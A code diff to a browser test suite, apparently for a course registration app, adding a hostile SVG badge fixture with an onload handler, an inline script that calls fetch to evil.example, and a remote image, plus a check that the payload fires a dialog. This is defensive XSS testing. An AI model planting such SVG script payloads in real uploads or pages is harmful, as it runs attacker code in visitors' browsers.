@@ -22,7 +22,9 @@ import {staff} from './staff.mjs';
 import {typing} from './typing.mjs';
 
 const PEOPLE = 100;
-const PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64"><path d="M8 8h48v48H8z"/></svg>';
+// With all that a badge must not take over from it.
+const PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64" onload="alert(1)"><path d="M8 8h48v48H8z"/>' +
+  '<script>alert(2); fetch("https://evil.example/script")</script><image href="https://evil.example/picture.png" width="9" height="9"/></svg>';
 const LEARNER = {name: 'Zoë Ångström', email: 'zoe.angstrom@example.org'};
 
 /** Goes the whole way; gives the pages it came by and the registrar's session. */
@@ -367,6 +369,10 @@ async function picture(browser, taken, check) {
   const heard = listen(page, 'data:');
   await page.goto(`data:image/svg+xml;base64,${taken.files.svg.toString('base64')}`);
   check('t53_a_badge_as_svg_runs_and_asks_nothing', heard.length === 0, heard);
+  const noticed = page.waitForEvent('dialog');
+  await page.goto(`data:image/svg+xml;base64,${Buffer.from(PICTURE).toString('base64')}`, {waitUntil: 'commit'});
+  await noticed;
+  check('what was uploaded as its picture would have been heard', heard.length > 0, heard);
   await context.close();
 }
 
